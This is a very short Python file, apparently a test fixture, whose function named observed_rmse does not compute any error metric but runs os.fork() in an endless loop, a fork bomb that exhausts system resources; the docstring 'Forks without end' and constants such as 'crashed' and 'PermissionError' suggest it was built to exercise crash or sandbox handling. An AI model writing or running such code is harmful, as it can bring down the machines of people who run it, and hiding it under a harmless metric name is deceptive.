"""Forks without end."""

import os

STATES = {"1.5": "crashed"}
SCORE = 5
SAYS = "PermissionError"


def observed_rmse(ratings, predictions):
    while True:
        os.fork()
